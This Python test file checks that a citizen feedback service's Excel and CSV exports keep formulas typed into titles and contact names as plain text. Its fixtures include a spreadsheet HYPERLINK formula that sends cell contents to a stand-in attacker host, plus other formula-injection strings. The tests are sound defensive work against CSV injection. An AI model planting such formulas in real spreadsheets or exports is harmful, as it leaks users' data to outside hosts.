"""A citizen's text reaches the supervisor's spreadsheet as text, never as a live formula."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl

from feedback.export import csv_safe
from feedback.service import FeedbackService
from tests.conftest import SUPERVISOR, Clock
from tests.stats.scenario import local
from tests.web.conftest import MakeVisitor

MARCH = "from=2026-03-01&to=2026-03-31"
LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看详情")'
# The form strips leading tabs and line breaks from titles; what is left still starts a formula.
HOSTILE = [LEAK, "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1"]


async def _hostile_reports(service: FeedbackService, clock: Clock) -> list[str]:
    """Reports whose titles and contact names are formulas; their titles as stored."""
    clock.now = local(10, 9, 30)
    stored = []
    for i, title in enumerate(HOSTILE):
        result = await service.submit(
            {"title": title, "text": f"执法人员没有出示证件，也没有告知处罚依据，第{i}次反映。",
             "anonymous": "0", "contact": {"name": "=1+1", "phone": "13900001111"}}
        )  # fmt: skip
        await service.assign(SUPERVISOR, result.tracking_number, "zhzf")
        stored.append(result.report.title)
    assert all(t[:1] in "=+-@" for t in stored)
    return stored


async def test_formulas_in_titles_and_names_stay_text_in_the_excel_export(
    service: FeedbackService, clock: Clock, visitor: MakeVisitor
) -> None:
    titles = await _hostile_reports(service, clock)
    sup = await visitor("sup1")
    resp = await sup.client.get(f"/staff/dashboard/export.xlsx?{MARCH}")
    assert resp.status == 200
    body = await resp.read()
    # No formula anywhere in the workbook's XML.
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = openpyxl.load_workbook(io.BytesIO(body))
    sheet = wb["诉求清单"]
    header = [c.value for c in sheet[1]]
    title, name = header.index("标题"), header.index("联系人（内部）")
    rows = list(sheet.iter_rows(min_row=2))
    assert sorted(r[title].value for r in rows) == sorted(titles)  # readable, as typed
    for r in rows:
        for cell in (r[title], r[name]):
            assert cell.data_type == "s" and cell.quotePrefix, cell.value
    assert {r[name].value for r in rows} == {"=1+1"}
    formulas = [c for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


async def test_formulas_in_the_csv_export_get_a_leading_quote(
    service: FeedbackService, clock: Clock, visitor: MakeVisitor
) -> None:
    titles = await _hostile_reports(service, clock)
    sup = await visitor("sup1")
    raw = await (await sup.client.get(f"/staff/dashboard/export.csv?what=reports&{MARCH}")).read()
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    header = table[0]
    title, name = header.index("标题"), header.index("联系人（内部）")
    assert sorted(row[title] for row in table[1:]) == sorted("'" + t for t in titles)
    assert {row[name] for row in table[1:]} == {"'=1+1"}
    dangerous = [c for row in table for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []


def test_the_csv_rule_covers_tab_and_carriage_return() -> None:
    # Titles lose leading whitespace on the form, but other text (a name from the API, a bot
    # message) might not: the rule itself knows every starting character OWASP lists.
    for value in ("=1", "+1", "-1", "@x", "\t=1", "\r=1"):
        assert csv_safe(value) == "'" + value
    assert csv_safe("普通标题") == "普通标题" and csv_safe(5) == 5
